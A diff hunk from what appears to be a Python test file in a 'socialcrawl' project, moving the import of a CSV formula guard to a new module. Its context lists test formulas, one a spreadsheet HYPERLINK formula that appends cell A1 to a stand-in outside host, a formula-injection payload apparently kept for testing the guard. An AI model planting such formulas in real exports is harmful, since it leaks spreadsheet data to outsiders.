@@ -10,7 +10,7 @@ from commands import COMMAND, ENVIRONMENT, socialcrawl
 from exported_towns import a_town, exported
 
 from socialcrawl.errors import SettingsError
-from socialcrawl.formats.csv_rows import guard_formula
+from socialcrawl.formats.csv_files import guard_formula
 
 FORMULAS = [
     '=HYPERLINK("http://stranger.example/?x="&A1,"see")',
